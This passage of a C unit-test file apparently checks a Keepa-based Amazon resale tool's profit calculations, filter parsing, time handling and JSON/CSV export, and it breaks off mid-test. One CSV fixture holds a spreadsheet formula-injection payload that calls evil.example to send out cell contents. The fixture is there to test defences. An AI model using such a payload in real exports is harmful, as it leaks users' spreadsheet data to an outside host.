    assert_int_equal(m, 1613); /* 500 x 100 / 31 = 1612.9 */
    /* No monthlySold: salesRankDrops30 stands in. */
    r.in.buy_condition = 3;
    r.in.monthly_sold = -1;
    r.in.drops30 = 9;
    const char *basis;
    assert_int_equal(vw_monthly_sales(&r, &basis), 9);
    assert_string_equal(basis, "drops30");
    assert_true(vw_monthly_profit(&r, &m));
    assert_int_equal(m, 900);
    /* Neither: unknown. Offers unknown: the FBA + FBM count, else unknown. */
    r.in.drops30 = -1;
    assert_false(vw_monthly_profit(&r, &m));
    r.in.monthly_sold = 10;
    r.in.offers_used = -1;
    r.in.offers_fba = 2;
    r.in.offers_fbm = 1;
    assert_int_equal(vw_competing_offers(&r), 3);
    assert_true(vw_monthly_profit(&r, &m));
    assert_int_equal(m, 1250);
    r.in.offers_fbm = -1;
    assert_int_equal(vw_competing_offers(&r), -1);
    assert_false(vw_monthly_profit(&r, &m));
    /* A loss rounds away from zero like a gain: -250 x 3 / 2 = -375; -1 x 1 / 2 = -0.5 -> -1. */
    r.in.offers_used = 1;
    r.in.monthly_sold = 3;
    r.v.profit_cents = -250;
    assert_true(vw_monthly_profit(&r, &m));
    assert_int_equal(m, -375);
    r.v.profit_cents = -1;
    r.in.monthly_sold = 1;
    assert_true(vw_monthly_profit(&r, &m));
    assert_int_equal(m, -1);
    r.v.priced = false;
    assert_false(vw_monthly_profit(&r, &m));

    /* Amazon on the listing: each signal alone. */
    base_record(&r);
    assert_false(vw_amazon_on_listing(&r));
    r.in.amazon_availability = -1; /* Amazon does not offer it */
    assert_false(vw_amazon_on_listing(&r));
    r.in.amazon_availability = 2; /* unknown */
    assert_false(vw_amazon_on_listing(&r));
    const int32_t on[] = {0, 1, 3, 4};
    for (size_t i = 0; i < ARRAY_LEN(on); i++) {
        r.in.amazon_availability = on[i];
        assert_true(vw_amazon_on_listing(&r));
    }
    r.in.amazon_availability = -2;
    r.in.amazon_cents = 1999;
    assert_true(vw_amazon_on_listing(&r));
    r.in.amazon_cents = -1;
    r.in.buy_box_is_amazon = 1;
    assert_true(vw_amazon_on_listing(&r));
    r.in.buy_box_is_amazon = 0;
    r.in.buy_is_amazon = true;
    assert_true(vw_amazon_on_listing(&r));

    /* no_hazmat: listed hazmat out, unknown and not-hazmat kept. */
    struct vw_filter f;
    vw_filter_init(&f, 1);
    assert_int_equal(vw_filter_parse_arg(&f, "--no-hazmat", NULL, NULL, 0), 0);
    base_record(&r);
    r.in.hazmat = -1;
    assert_true(vw_match(&r, &f, NOW_MS));
    r.in.hazmat = 0;
    assert_true(vw_match(&r, &f, NOW_MS));
    r.in.hazmat = 1;
    assert_false(vw_match(&r, &f, NOW_MS));
    /* Marked records leave the default view and come back with --marked. */
    base_record(&r);
    r.mark = ST_MARK_IGNORED;
    vw_filter_init(&f, 1);
    assert_false(vw_match(&r, &f, NOW_MS));
    assert_int_equal(vw_filter_parse_arg(&f, "marked", "true", NULL, 0), 0);
    assert_true(vw_match(&r, &f, NOW_MS));
    assert_int_equal(vw_filter_parse_arg(&f, "marked", "false", NULL, 0), 0);
    assert_false(vw_match(&r, &f, NOW_MS));
    /* --min-profit 5 is five dollars, not five cents. */
    base_record(&r);
    r.v.profit_cents = 499;
    vw_filter_init(&f, 1);
    assert_int_equal(vw_filter_parse_arg(&f, "--min-profit", "5", NULL, 0), 0);
    assert_int_equal(f.min_profit_cents, 500);
    assert_false(vw_match(&r, &f, NOW_MS));
    r.v.profit_cents = 500;
    assert_true(vw_match(&r, &f, NOW_MS));
    /* In Japan money is whole yen. */
    vw_filter_init(&f, 5);
    assert_int_equal(vw_filter_parse_arg(&f, "min_profit", "500", NULL, 0), 0);
    assert_int_equal(f.min_profit_cents, 500);
}

/* ---- parsing ---- */

static void test_parse_errors_name_the_key(void **state)
{
    (void)state;
    static const struct {
        const char *name, *value, *says;
    } bad[] = {
        {"--min-roi", "abc", "percent"},
        {"min_roi", "12.345", "percent"},
        {"--min-profit", "5 dollars", "not cents"},
        {"min_profit", "1.234", "money"},
        {"--max-rank", "50k", "rank"},
        {"max_rank", "0", "rank"},
        {"--max-rank", "-5", "rank"},
        {"--min-drops30", "-1", "count"},
        {"min_sold", "lots", "count"},
        {"--max-offers", "3.5", "count"},
        {"--category", "Books||Toys", "separated by |"},
        {"category", "1|2|3|4|5|6|7|8|9|10|11|12|13|14|15|16|17", "at most 16"},
        {"--condition", "mint", "like_new"},
        {"condition", "used|", "acceptable"},
        {"--verdict", "maybe", "near"},
        {"--since", "2", "duration"},
        {"since", "2025-02-30", "ISO 8601"},
        {"--since", "yesterday", "ISO 8601"},
        {"--since", "0h", "duration"},
        {"--sort", "price", "monthly"},
        {"limit", "-1", "count"},
        {"--limit", "99999999", "count"},
        {"offset", "x", "count"},
        {"no_amazon", "maybe", "true or false"},
        {"--min-roi", "", "percent"},
        {"--since", NULL, "needs a value"},
    };
    for (size_t i = 0; i < ARRAY_LEN(bad); i++) {
        struct vw_filter f, before;
        vw_filter_init(&f, 1);
        assert_int_equal(vw_filter_parse_arg(&f, "sort", "rank", NULL, 0), 0);
        before = f;
        char err[512];
        int rc = vw_filter_parse_arg(&f, bad[i].name, bad[i].value, err, sizeof(err));
        if (rc != -EINVAL)
            fail_msg("%s '%s': rc %d, want -EINVAL", bad[i].name, bad[i].value, rc);
        /* The key as written opens the message; the message says what is allowed. */
        if (strncmp(err, bad[i].name, strlen(bad[i].name)) != 0 || strstr(err, bad[i].says) == NULL)
            fail_msg("%s '%s': message \"%s\"", bad[i].name, bad[i].value, err);
        assert_memory_equal(&f, &before, sizeof(f));
    }
    /* Yen have no cents. */
    struct vw_filter f;
    vw_filter_init(&f, 5);
    char err[512];
    assert_int_equal(vw_filter_parse_arg(&f, "min_profit", "5.5", err, sizeof(err)), -EINVAL);
    assert_non_null(strstr(err, "whole units"));
    /* An unknown key lists the known ones in the spelling that was used. */
    assert_int_equal(vw_filter_parse_arg(&f, "--min-margin", "5", err, sizeof(err)), -ENOENT);
    assert_non_null(strstr(err, "--min-margin"));
    assert_non_null(strstr(err, "--min-roi"));
    assert_int_equal(vw_filter_parse_arg(&f, "min_margin", "5", err, sizeof(err)), -ENOENT);
    assert_non_null(strstr(err, " min_roi"));
    assert_int_equal(vw_filter_arity("min-margin"), -ENOENT);
    assert_int_equal(vw_filter_arity("--no-amazon"), 0);
    assert_int_equal(vw_filter_arity("since"), 1);
    /* A tiny error buffer is still terminated. */
    char tiny[8];
    assert_int_equal(vw_filter_parse_arg(&f, "--sort", "price", tiny, sizeof(tiny)), -EINVAL);
    assert_int_equal(strlen(tiny), 7);
}

static void test_vocabulary_spellings(void **state)
{
    (void)state;
    for (size_t i = 0; vw_filter_key(i) != NULL; i++) {
        const struct vw_key_info *k = vw_filter_key(i);
        assert_int_equal(k->id, i);
        /* The command line's spelling is the name with dashes. */
        char cli[40];
        snprintf(cli, sizeof(cli), "--%s", k->name);
        for (char *p = cli; *p; p++)
            if (*p == '_')
                *p = '-';
        assert_string_equal(k->cli, cli);
        assert_int_equal(vw_filter_arity(k->cli), k->takes_value ? 1 : 0);
        assert_int_equal(vw_filter_arity(k->name), k->takes_value ? 1 : 0);
        assert_int_equal(vw_filter_arity(k->cli + 2), k->takes_value ? 1 : 0);
    }
    assert_int_equal(VW_K_COUNT, 16);
    /* The three spellings give the same filter. */
    const char *values[] = {"25", "5.00", "500000", "3",  "10", "20",      "Books|283155", "used",
                            NULL, NULL,   "near",   "2h", NULL, "monthly", "50",           "100"};
    struct vw_filter a, b, c;
    vw_filter_init(&a, 1);
    vw_filter_init(&b, 1);
    vw_filter_init(&c, 1);
    for (size_t i = 0; i < VW_K_COUNT; i++) {
        const struct vw_key_info *k = vw_filter_key(i);
        assert_int_equal(vw_filter_parse_arg(&a, k->cli, values[i], NULL, 0), 0);
        assert_int_equal(vw_filter_parse_arg(&b, k->name, values[i] ? values[i] : "true", NULL, 0),
                         0);
        assert_int_equal(
            vw_filter_parse_arg(&c, k->cli + 2, values[i] ? values[i] : "yes", NULL, 0), 0);
    }
    assert_memory_equal(&a, &b, sizeof(a));
    assert_memory_equal(&a, &c, sizeof(a));
    assert_int_equal(a.min_roi_bp, 2500);
    assert_int_equal(a.min_profit_cents, 500);
    assert_int_equal(a.conditions, VW_CONDITION_USED);
    assert_int_equal(a.verdicts, VW_VERDICT_NEAR);
    assert_int_equal(a.since_ago_ms, 2 * 3600000);
    assert_int_equal(a.n_categories, 2);
    assert_string_equal(a.categories[0].name, "Books");
    assert_int_equal(a.categories[1].id, 283155);
    /* Setting a key again replaces it; a switch set to false is off. */
    assert_int_equal(vw_filter_parse_arg(&a, "--category", "Toys & Games", NULL, 0), 0);
    assert_int_equal(a.n_categories, 1);
    assert_int_equal(vw_filter_parse_arg(&a, "no_amazon", "off", NULL, 0), 0);
    assert_false(a.no_amazon);
    assert_false(a.given & (1u << VW_K_NO_AMAZON));
    /* Percent with a sign and a % sign. */
    assert_int_equal(vw_filter_parse_arg(&a, "min_roi", "-12.5%", NULL, 0), 0);
    assert_int_equal(a.min_roi_bp, -1250);
}

/* Filters equal in everything the parser sets. */
static void assert_filters_equal(const struct vw_filter *a, const struct vw_filter *b)
{
    assert_int_equal(a->given, b->given);
    assert_int_equal(a->min_roi_bp, b->min_roi_bp);
    assert_int_equal(a->min_profit_cents, b->min_profit_cents);
    assert_int_equal(a->max_rank, b->max_rank);
    assert_int_equal(a->min_drops30, b->min_drops30);
    assert_int_equal(a->min_sold, b->min_sold);
    assert_int_equal(a->max_offers, b->max_offers);
    assert_int_equal(a->n_categories, b->n_categories);
    for (unsigned i = 0; i < a->n_categories; i++) {
        assert_int_equal(a->categories[i].id, b->categories[i].id);
        assert_string_equal(a->categories[i].name, b->categories[i].name);
    }
    assert_int_equal(a->conditions, b->conditions);
    assert_int_equal(a->no_amazon, b->no_amazon);
    assert_int_equal(a->no_hazmat, b->no_hazmat);
    assert_int_equal(a->verdicts, b->verdicts);
    assert_int_equal(a->marked, b->marked);
    assert_int_equal(a->since_ms, b->since_ms);
    assert_int_equal(a->since_ago_ms, b->since_ago_ms);
    assert_int_equal(a->sort, b->sort);
    assert_int_equal(a->limit, b->limit);
    assert_int_equal(a->offset, b->offset);
}

static void test_format_round_trip(void **state)
{
    (void)state;
    for (int k = 0; k < 500; k++) {
        struct query q;
        random_query(&q);
        struct vw_filter f, back;
        parse_query(&q, &f);
        if (chance(20)) /* an ISO time with milliseconds */
            assert_int_equal(
                vw_filter_parse_arg(&f, "since", "2025-05-01T12:00:00.123+02:00", NULL, 0), 0);
        char text[2048];
        int len = vw_filter_format(&f, text, sizeof(text));
        assert_true(len > 0 || f.given == 0);
        assert_int_equal((size_t)len, strlen(text));
        vw_filter_init(&back, 1);
        for (char *line = strtok(text, "\n"); line != NULL; line = strtok(NULL, "\n")) {
            char *eq = strchr(line, '=');
            assert_non_null(eq);
            *eq = '\0';
            char err[256];
            if (vw_filter_parse_arg(&back, line, eq + 1, err, sizeof(err)) != 0)
                fail_msg("%s", err);
        }
        assert_filters_equal(&f, &back);
    }
    /* The text's length is reported even when the buffer is too small. */
    struct vw_filter f;
    vw_filter_init(&f, 1);
    vw_filter_parse_arg(&f, "category", "Patio, Lawn & Garden|Toys & Games", NULL, 0);
    char small[10];
    int need = vw_filter_format(&f, small, sizeof(small));
    assert_int_equal(need, strlen("category=Patio, Lawn & Garden|Toys & Games\n"));
    assert_int_equal(strlen(small), 9);
}

/* ---- time ---- */

static void test_time_iso(void **state)
{
    (void)state;
    char buf[40], want[40];
    vw_time_iso(0, buf, sizeof(buf));
    assert_string_equal(buf, "1970-01-01T00:00:00.000Z");
    vw_time_iso(NOW_MS + 42, buf, sizeof(buf));
    assert_string_equal(buf, "2025-11-24T16:00:00.042Z");
    vw_time_iso(951782400000LL, buf, sizeof(buf)); /* a leap day of a century year */
    assert_string_equal(buf, "2000-02-29T00:00:00.000Z");
    for (int i = 0; i < 20000; i++) {
        int64_t ms = rnd(0, 253402300799999LL);
        vw_time_iso(ms, buf, sizeof(buf));
        time_t s = (time_t)(ms / 1000);
        struct tm tm;
        gmtime_r(&s, &tm);
        char head[32];
        strftime(head, sizeof(head), "%Y-%m-%dT%H:%M:%S", &tm);
        snprintf(want, sizeof(want), "%s.%03dZ", head, (int)(ms % 1000));
        assert_string_equal(buf, want);
        int64_t back;
        assert_int_equal(vw_time_parse_iso(buf, &back), 0);
        assert_int_equal(back, ms);
    }
    int64_t ms;
    assert_int_equal(vw_time_parse_iso("2025-11-24", &ms), 0);
    assert_int_equal(ms, NOW_MS - 16 * 3600000LL);
    assert_int_equal(vw_time_parse_iso("2025-11-24 16:00", &ms), 0);
    assert_int_equal(ms, NOW_MS);
    assert_int_equal(vw_time_parse_iso("2025-11-24T18:00:00+02:00", &ms), 0);
    assert_int_equal(ms, NOW_MS);
    assert_int_equal(vw_time_parse_iso("2025-11-24T11:30-0430", &ms), 0);
    assert_int_equal(ms, NOW_MS);
    assert_int_equal(vw_time_parse_iso("2025-11-24T16:00:00.5Z", &ms), 0);
    assert_int_equal(ms, NOW_MS + 500);
    assert_int_equal(vw_time_parse_iso("2024-02-29", &ms), 0);
    const char *bad[] = {"2025-02-29",
                         "2025-13-01",
                         "2025-11-24T24:00",
                         "2025-11-24T16:60",
                         "2025-11-24T16",
                         "2025-11-24T16:00:00.Z",
                         "25-11-24",
                         "2025/11/24",
                         "2025-11-24T16:00+",
                         "2025-11-24T16:00Z junk",
                         "",
                         "1900-02-29"};
    for (size_t i = 0; i < ARRAY_LEN(bad); i++)
        if (vw_time_parse_iso(bad[i], &ms) != -EINVAL)
            fail_msg("'%s' was accepted", bad[i]);
}

/* ---- JSON ---- */

static bool has_unit_suffix(const char *name)
{
    static const char *const units[] = {"_cents", "_bp", "_ms", "_min", "_g", "_mm"};
    size_t n = strlen(name);
    for (size_t i = 0; i < ARRAY_LEN(units); i++) {
        size_t s = strlen(units[i]);
        if (n > s && strcmp(name + n - s, units[i]) == 0)
            return true;
    }
    return false;
}

/* Integers that are counts, ranks, ids or codes: no unit to carry. */
static bool unitless_count(const char *name)
{
    static const char *const names[] = {
        "domain",         "category_id", "buy_condition", "sales_rank",       "drops30",
        "drops90",        "drops180",    "drops365",      "monthly_sold",     "offers_new",
        "offers_used",    "offers_fba",  "offers_fbm",    "competing_offers", "monthly_sales",
        "check_failures", "revision",    "bought_qty"};
    for (size_t i = 0; i < ARRAY_LEN(names); i++)
        if (strcmp(name, names[i]) == 0)
            return true;
    return false;
}

/* The output's column names in order: the field table with each time's ISO twin. */
static size_t column_names(char names[][48], size_t max)
{
    size_t n = 0;
    for (size_t i = 0; i < vw_field_count(); i++) {
        const struct vw_field_info *f = vw_field(i);
        assert_true(n + 2 <= max);
        snprintf(names[n++], 48, "%s", f->name);
        if (f->type == VW_T_TIME) {
            size_t len = strlen(f->name);
            assert_true(len > 3 && strcmp(f->name + len - 3, "_ms") == 0);
            snprintf(names[n++], 48, "%.*s", (int)(len - 3), f->name);
        }
    }
    return n;
}

static void iso_ms_of(int64_t ms, char *buf, size_t len)
{
    char head[32];
    time_t s = (time_t)(ms / 1000);
    struct tm tm;
    gmtime_r(&s, &tm);
    strftime(head, sizeof(head), "%Y-%m-%dT%H:%M:%S", &tm);
    snprintf(buf, len, "%s.%03dZ", head, (int)(ms % 1000));
}

#ifdef VW_HAVE_JANSSON
static bool valid_utf8(const char *s)
{
    return vw_utf8_clean(s, false, (char[3 * ST_TITLE_MAX + 1]){0}, 3 * ST_TITLE_MAX + 1) ==
               strlen(s) &&
           strstr(s, "\xEF\xBF\xBD") == NULL;
}

static void check_json_record(json_t *o, const struct st_record *r, const struct jd_rules *rules)
{
    assert_true(json_is_object(o));
    /* Every field of the table, nothing else, each of its type or null. */
    size_t n_fields = 0;
    for (size_t i = 0; i < vw_field_count(); i++) {
        const struct vw_field_info *f = vw_field(i);
        json_t *v = json_object_get(o, f->name);
        if (v == NULL)
            fail_msg("field %s missing", f->name);
        n_fields++;
        bool ok = json_is_null(v);
        switch (f->type) {
        case VW_T_STRING:
            ok |= json_is_string(v);
            break;
        case VW_T_INTEGER:
            ok |= json_is_integer(v);
            if (!has_unit_suffix(f->name) && !unitless_count(f->name))
                fail_msg("integer field %s carries no unit", f->name);
            break;
        case VW_T_BOOLEAN:
            ok |= json_is_boolean(v);
            break;
        case VW_T_TIME: {
            ok |= json_is_integer(v);
            assert_true(has_unit_suffix(f->name));
            char twin[48];
            snprintf(twin, sizeof(twin), "%.*s", (int)strlen(f->name) - 3, f->name);
            json_t *iso = json_object_get(o, twin);
            assert_non_null(iso);
            n_fields++;
            if (json_is_null(v)) {
                assert_true(json_is_null(iso));
            } else {
                char want[40];
                iso_ms_of(json_integer_value(v), want, sizeof(want));
                assert_string_equal(json_string_value(iso), want);
            }
            break;
        }
        case VW_T_LIST:
            ok |= json_is_array(v);
            break;
        case VW_T_REASONS:
            ok |= json_is_array(v);
            break;
        }
        if (!ok)
            fail_msg("field %s has the wrong JSON type", f->name);
    }
    assert_int_equal(json_object_size(o), n_fields);

    /* Values. */
    assert_string_equal(json_string_value(json_object_get(o, "asin")), r->asin);
    json_t *profit = json_object_get(o, "profit_cents");
    if (r->v.priced)
        assert_int_equal(json_integer_value(profit), r->v.profit_cents);
    else
        assert_true(json_is_null(profit));
    json_t *rank = json_object_get(o, "sales_rank");
    if (r->in.sales_rank > 0)
        assert_int_equal(json_integer_value(rank), r->in.sales_rank);
    else
        assert_true(json_is_null(rank));
    json_t *drops = json_object_get(o, "drops30");
    if (r->in.drops30 >= 0)
        assert_int_equal(json_integer_value(drops), r->in.drops30);
    else
        assert_true(json_is_null(drops));
    int64_t m;
    json_t *monthly = json_object_get(o, "monthly_profit_cents");
    if (ref_monthly(r, &m))
        assert_int_equal(json_integer_value(monthly), m);
    else
        assert_true(json_is_null(monthly));
    assert_int_equal(json_is_true(json_object_get(o, "amazon_on_listing")), ref_amazon(r));
    json_t *hz = json_object_get(o, "hazmat");
    if (r->in.hazmat == 1 || r->in.hazmat == 0)
        assert_int_equal(json_is_true(hz), r->in.hazmat == 1);
    else
        assert_true(json_is_null(hz));
    const struct jd_market *mk = jd_market(r->domain);
    char url[128];
    snprintf(url, sizeof(url), "https://%s/dp/%s", mk->host, r->asin);
    assert_string_equal(json_string_value(json_object_get(o, "amazon_url")), url);
    snprintf(url, sizeof(url), "https://keepa.com/#!product/%u-%s", r->domain, r->asin);
    assert_string_equal(json_string_value(json_object_get(o, "keepa_url")), url);
    assert_string_equal(json_string_value(json_object_get(o, "currency")), mk->currency);
    const char *title = json_string_value(json_object_get(o, "title"));
    if (r->title[0] == '\0')
        assert_null(title);
    else if (valid_utf8(r->title))
        assert_string_equal(title, r->title);
    else
        assert_non_null(strstr(title, "\xEF\xBF\xBD"));
    if (r->in.buy_condition > 0)
        assert_string_equal(json_string_value(json_object_get(o, "buy_condition_name")),
                            jd_condition_name(r->in.buy_condition));
    const char *cat = json_string_value(json_object_get(o, "category_name"));
    const char *want_cat =
        r->category_name[0] ? r->category_name : jd_category_name(r->domain, r->in.root_category);
    if (want_cat != NULL && r->in.root_category > 0)
        assert_string_equal(cat, want_cat);
    /* The reasons: every criterion, in words, re-judged under the rules. */
    json_t *reasons = json_object_get(o, "reasons");
    if (rules == NULL) {
        assert_true(json_is_null(reasons));
        return;
    }
    struct jd_verdict j;
    jd_judge(&r->in, rules, &j);
    assert_int_equal(json_array_size(reasons), JD_C_COUNT);
    for (unsigned c = 0; c < JD_C_COUNT; c++) {
        json_t *one = json_array_get(reasons, c);
        char text[200];
        jd_format_criterion(&j, c, r->domain, text, sizeof(text));
        assert_string_equal(json_string_value(json_object_get(one, "criterion")), jd_crit_name(c));
        assert_string_equal(json_string_value(json_object_get(one, "state")),
                            jd_state_name(j.crit[c].state));
        assert_string_equal(json_string_value(json_object_get(one, "text")), text);
        assert_int_equal(json_is_true(json_object_get(one, "fails")), (j.fails >> c) & 1);
        if (c == JD_C_ROI && j.crit[c].state == JD_PASS) {
            assert_int_equal(json_integer_value(json_object_get(one, "value")), j.roi_bp);
            assert_string_equal(json_string_value(json_object_get(one, "unit")), "bp");
        }
    }
}
#endif

static char *run_to_memory(int (*write)(FILE *, const struct st_record *, const size_t *, size_t,
                                        const struct vw_out *),
                           const struct st_record *recs, size_t n, const struct vw_out *o,
                           size_t *len)
{
    char *buf = NULL;
    FILE *mem = open_memstream(&buf, len);
    assert_non_null(mem);
    assert_int_equal(write(mem, recs, NULL, n, o), 0);
    assert_int_equal(fclose(mem), 0);
    return buf;
}

static void test_json_parses_back(void **state)
{
    (void)state;
#ifndef VW_HAVE_JANSSON
#error "test_view needs jansson (tests/CMakeLists.txt defines VW_HAVE_JANSSON)"
#else
    enum { N = 400 };
    struct st_record *recs = random_records(N);
    struct jd_rules rules;
    jd_rules_default(&rules);
    for (int with_rules = 0; with_rules < 2; with_rules++) {
        struct vw_out o = {.rules = with_rules ? &rules : NULL};
        size_t len;
        char *text = run_to_memory(vw_json_write, recs, N, &o, &len);
        json_error_t jerr;
        json_t *doc = json_loadb(text, len, 0, &jerr);
        if (doc == NULL)
            fail_msg("JSON does not parse: %s at %d", jerr.text, jerr.position);
        assert_int_equal(json_array_size(doc), N);
        for (size_t i = 0; i < N; i++)
            check_json_record(json_array_get(doc, i), &recs[i], o.rules);
        json_decref(doc);
        free(text);
    }
    /* JSON lines: one object per line. */
    struct vw_out o = {.rules = &rules, .json_lines = true};
    size_t len;
    char *text = run_to_memory(vw_json_write, recs, N, &o, &len);
    size_t lines = 0;
    for (char *line = strtok(text, "\n"); line != NULL; line = strtok(NULL, "\n")) {
        json_error_t jerr;
        json_t *obj = json_loads(line, 0, &jerr);
        assert_non_null(obj);
        check_json_record(obj, &recs[lines], &rules);
        json_decref(obj);
        lines++;
    }
    assert_int_equal(lines, N);
    free(text);
    /* No records: an empty array. */
    text = run_to_memory(vw_json_write, recs, 0, NULL, &len);
    assert_string_equal(text, "[]\n");
    free(text);
    free(recs);
#endif
}

#ifdef VW_HAVE_JANSSON
static int keep_first(const struct kp_product *p, void *ud)
{
    struct kp_product *out = ud;
    if (out->asin[0] == '\0')
        *out = *p;
    return 0;
}
#endif

/* The recorded real product as the committer would store it, out through JSON. */
static void test_real_record_json(void **state)
{
    (void)state;
#ifndef VW_HAVE_JANSSON
#error "test_view needs jansson (tests/CMakeLists.txt defines VW_HAVE_JANSSON)"
#else
    const char *path = kd_fixture_path("product_B0D8W1YVBX.json");
    size_t blen;
    char *body = kd_read_file(path, &blen);
    assert_non_null(body);
    static struct kp_product p;
    memset(&p, 0, sizeof(p));
    struct kp_decode_cbs cbs = {.on_product = keep_first, .ud = &p};
    char err[256];
    assert_int_equal(kp_decode_buffer(body, blen, NULL, &cbs, NULL, err, sizeof(err)), 0);
    free(body);
    struct jd_rules rules;
    jd_rules_default(&rules);
    static struct st_record r;
    st_record_init(&r);
    memcpy(r.asin, p.asin, ST_ASIN_LEN);
    r.asin[ST_ASIN_LEN] = '\0';
    r.domain = 1;
    jd_inputs_from_product(&p, &rules, 1778386768884, JD_READ_AUTO, &r.in);
    jd_judge(&r.in, &rules, &r.v);
    r.state = ST_STATE_REJECTED;
    r.last_checked_ms = 1778386768884;
    r.rules_hash = jd_rules_hash(&rules);
    struct vw_out o = {.rules = &rules};
    size_t len;
    char *text = run_to_memory(vw_json_write, &r, 1, &o, &len);
    json_error_t jerr;
    json_t *doc = json_loadb(text, len, 0, &jerr);
    assert_non_null(doc);
    json_t *obj = json_array_get(doc, 0);
    check_json_record(obj, &r, &rules);
    /* What the judgement tests worked out by hand for this product, now readable by a program. */
    assert_string_equal(json_string_value(json_object_get(obj, "amazon_url")),
                        "https://www.amazon.com/dp/B0D8W1YVBX");
    assert_string_equal(json_string_value(json_object_get(obj, "offers_url")),
                        "https://www.amazon.com/gp/offer-listing/B0D8W1YVBX");
    assert_int_equal(json_integer_value(json_object_get(obj, "category_id")), 3760911);
    assert_string_equal(json_string_value(json_object_get(obj, "category_name")),
                        "Beauty & Personal Care");
    assert_int_equal(json_integer_value(json_object_get(obj, "monthly_sold")), 100000);
    assert_int_equal(json_integer_value(json_object_get(obj, "sell_cents")), 1499);
    assert_int_equal(json_integer_value(json_object_get(obj, "fee_referral_cents")), 225);
    assert_int_equal(json_integer_value(json_object_get(obj, "fee_fba_cents")), 409);
    assert_int_equal(json_integer_value(json_object_get(obj, "payout_cents")), 865);
    assert_int_equal(json_integer_value(json_object_get(obj, "profit_cents")), -809);
    assert_int_equal(json_integer_value(json_object_get(obj, "max_cost_cents")), 190);
    assert_string_equal(json_string_value(json_object_get(obj, "sell_basis")), "buy_box");
    assert_string_equal(json_string_value(json_object_get(obj, "buy_condition_name")), "New");
    assert_true(json_is_false(json_object_get(obj, "heat_sensitive")));
    assert_true(json_is_true(json_object_get(obj, "judged_by_current_rules")));
    assert_string_equal(json_string_value(json_object_get(obj, "reason")), "roi");
    json_t *profit_reason = json_array_get(json_object_get(obj, "reasons"), JD_C_PROFIT);
    assert_string_equal(json_string_value(json_object_get(profit_reason, "text")),
                        "profit -$8.09 vs $5.00: fail by $13.09");
    assert_int_equal(json_integer_value(json_object_get(profit_reason, "margin")), -1309);
    assert_string_equal(json_string_value(json_object_get(obj, "last_checked")),
                        "2026-05-10T04:19:28.884Z");
    json_decref(doc);
    free(text);
#endif
}

/* ---- CSV ---- */

struct csv {
    char ***rows; /* rows[i][j]: malloc'd cells */
    size_t *n_cells;
    size_t n_rows;
};

/* A strict RFC 4180 reader: CRLF rows, quoted cells with doubled quotes, nothing else. */
static bool csv_parse(const char *s, struct csv *out)
{
    memset(out, 0, sizeof(*out));
    size_t cap_rows = 0;
    char **row = NULL;
    size_t n = 0, cap = 0;
    char *cell = malloc(strlen(s) + 1);
    while (*s != '\0') {
        size_t c = 0;
        if (*s == '"') {
            s++;
            while (true) {
                if (*s == '\0')
                    return false; /* unterminated */
                if (*s == '"') {
                    if (s[1] == '"') {
                        cell[c++] = '"';
                        s += 2;
                        continue;
                    }
                    s++;
                    break;
                }
                cell[c++] = *s++;
            }
            if (*s != ',' && !(s[0] == '\r' && s[1] == '\n'))
                return false; /* text after a closing quote */
        } else {
            while (*s != ',' && *s != '\r' && *s != '\n' && *s != '\0') {
                if (*s == '"')
                    return false; /* a quote inside an unquoted cell */
                cell[c++] = *s++;
            }
            if (*s == '\n' || (*s == '\r' && s[1] != '\n') || *s == '\0')
                return false; /* rows end with CRLF */
        }
        cell[c] = '\0';
        if (n == cap) {
            cap = cap ? 2 * cap : 64;
            row = realloc(row, cap * sizeof(*row));
        }
        row[n++] = strdup(cell);
        if (*s == ',') {
            s++;
            continue;
        }
        s += 2; /* CRLF */
        if (out->n_rows == cap_rows) {
            cap_rows = cap_rows ? 2 * cap_rows : 64;
            out->rows = realloc(out->rows, cap_rows * sizeof(*out->rows));
            out->n_cells = realloc(out->n_cells, cap_rows * sizeof(*out->n_cells));
        }
        out->rows[out->n_rows] = row;
        out->n_cells[out->n_rows++] = n;
        row = NULL;
        n = cap = 0;
    }
    free(cell);
    return row == NULL;
}

static void csv_free(struct csv *c)
{
    for (size_t i = 0; i < c->n_rows; i++) {
        for (size_t j = 0; j < c->n_cells[i]; j++)
            free(c->rows[i][j]);
        free(c->rows[i]);
    }
    free(c->rows);
    free(c->n_cells);
}

static bool is_integer(const char *s)
{
    if (*s == '-')
        s++;
    if (*s == '\0')
        return false;
    for (; *s; s++)
        if (*s < '0' || *s > '9')
            return false;
    return true;
}

static void test_csv_reads_back(void **state)
{
    (void)state;
    enum { N = 400 };
    struct st_record *recs = random_records(N);
    /* The formula-looking title, a negative profit and a loss in ROI in the first record. */
    const char *evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Buy now\")";
    st_record_set_title(&recs[0], evil, strlen(evil));
    recs[0].v.priced = true;
    recs[0].v.profit_cents = -809;
    recs[0].v.roi_bp = -4833;
    struct jd_rules rules;
    jd_rules_default(&rules);
    struct vw_out o = {.rules = &rules};
    size_t len;
    char *text = run_to_memory(vw_csv_write, recs, N, &o, &len);
    struct csv c;
    assert_true(csv_parse(text, &c));
    char names[256][48];
    size_t n_cols = column_names(names, ARRAY_LEN(names));
    assert_int_equal(c.n_rows, N + 1);
    for (size_t j = 0; j < n_cols; j++)
        assert_string_equal(c.rows[0][j], names[j]);
    size_t col_title = 0, col_profit = 0, col_roi = 0, col_asin = 0, col_checked = 0;
    for (size_t j = 0; j < n_cols; j++) {
        col_title = strcmp(names[j], "title") == 0 ? j : col_title;
        col_profit = strcmp(names[j], "profit_cents") == 0 ? j : col_profit;
        col_roi = strcmp(names[j], "roi_bp") == 0 ? j : col_roi;
        col_asin = strcmp(names[j], "asin") == 0 ? j : col_asin;
        col_checked = strcmp(names[j], "last_checked") == 0 ? j : col_checked;
    }
    for (size_t i = 1; i <= N; i++) {
        const struct st_record *r = &recs[i - 1];
        assert_int_equal(c.n_cells[i], n_cols);
        assert_string_equal(c.rows[i][col_asin], r->asin);
        /* Numbers stay numbers, negative ones included. */
        if (r->v.priced) {
            char want[32];
            snprintf(want, sizeof(want), "%" PRId64, r->v.profit_cents);
            assert_string_equal(c.rows[i][col_profit], want);
            snprintf(want, sizeof(want), "%" PRId64, r->v.roi_bp);
            assert_string_equal(c.rows[i][col_roi], want);
        } else {
            assert_string_equal(c.rows[i][col_profit], "");
        }
        if (r->last_checked_ms > 0) {
            char want[40];
            iso_ms_of(r->last_checked_ms, want, sizeof(want));
            assert_string_equal(c.rows[i][col_checked], want);
        }
        /* No text cell starts like a formula; integer columns hold integers or nothing. */
        for (size_t j = 0; j < n_cols; j++) {
            const char *cell = c.rows[i][j];
            if (is_integer(cell) || cell[0] == '\0')
                continue;
